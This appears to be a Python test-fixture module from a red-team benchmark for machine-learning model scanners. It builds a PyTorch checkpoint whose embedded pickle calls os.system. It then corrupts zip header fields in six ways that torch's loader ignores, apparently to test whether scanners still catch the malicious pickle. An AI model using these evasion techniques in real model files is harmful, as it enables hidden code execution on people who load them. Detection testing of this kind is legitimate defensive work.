"""Damaged torch.save zips: header fields miniz (torch's zip reader) ignores or reads differently.

PyTorchFileReader takes names, sizes and offsets from the central directory and
only the name and extra lengths from the local header; it checks CRCs only
when asked. Each sample changes one field of a checkpoint whose data.pkl calls
os.system; those torch no longer loads are dropped by the verifier, not counted.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

from mlsecops.fixtures import torch_state_dict_pickle, torch_zip

from benchmarks.redteam.pickles import system_call
from benchmarks.redteam.sample import Sample

F = "torch-zip"


def evil_zip() -> bytes:
    return torch_zip({"w": 4}, data_pkl=torch_state_dict_pickle({"w": 4}, extra=b"X\x04\x00\x00\x00hook" + system_call()))


def _headers(raw: bytearray, sig: bytes) -> list[int]:
    out, pos = [], raw.find(sig)
    while pos != -1:
        out.append(pos)
        pos = raw.find(sig, pos + 4)
    return out


def _mutate(fn: Callable[[bytearray], None]) -> Callable[[], dict[str, bytes]]:
    def build() -> dict[str, bytes]:
        raw = bytearray(evil_zip())
        fn(raw)
        return {"model.pt": bytes(raw)}
    return build


def local_sizes_zero(raw: bytearray) -> None:
    for pos in _headers(raw, b"PK\x03\x04"):
        struct.pack_into("<II", raw, pos + 18, 0, 0)


def local_version_ffff(raw: bytearray) -> None:
    for pos in _headers(raw, b"PK\x03\x04"):
        struct.pack_into("<H", raw, pos + 4, 0xFFFF)


def descriptor_flag(raw: bytearray) -> None:
    for pos in _headers(raw, b"PK\x03\x04"):
        raw[pos + 6] |= 0x08
    for pos in _headers(raw, b"PK\x01\x02"):
        raw[pos + 8] |= 0x08


def central_dir_attr(raw: bytearray) -> None:
    for pos in _headers(raw, b"PK\x01\x02"):
        struct.pack_into("<I", raw, pos + 38, 0x10)


def central_symlink_mode(raw: bytearray) -> None:
    for pos in _headers(raw, b"PK\x01\x02"):
        struct.pack_into("<H", raw, pos + 4, 0x0314)
        struct.pack_into("<I", raw, pos + 38, 0o120777 << 16)


def local_method_deflate(raw: bytearray) -> None:
    for pos in _headers(raw, b"PK\x03\x04"):
        struct.pack_into("<H", raw, pos + 8, 8)


SAMPLES = [
    Sample(f"torch_zip_{fn.__name__}", F, "torch.load", "process", why, _mutate(fn), fast=fn is local_sizes_zero)
    for fn, why in (
        (local_sizes_zero, "local headers claim 0 bytes; miniz takes sizes from the central directory"),
        (local_version_ffff, "local 'version needed' 0xFFFF"),
        (descriptor_flag, "the data-descriptor flag set with no descriptor after the data"),
        (central_dir_attr, "external attributes mark every entry as an MS-DOS directory"),
        (central_symlink_mode, "external attributes mark every entry as a Unix symlink"),
        (local_method_deflate, "local headers say deflate, the central directory stored"),
    )
]
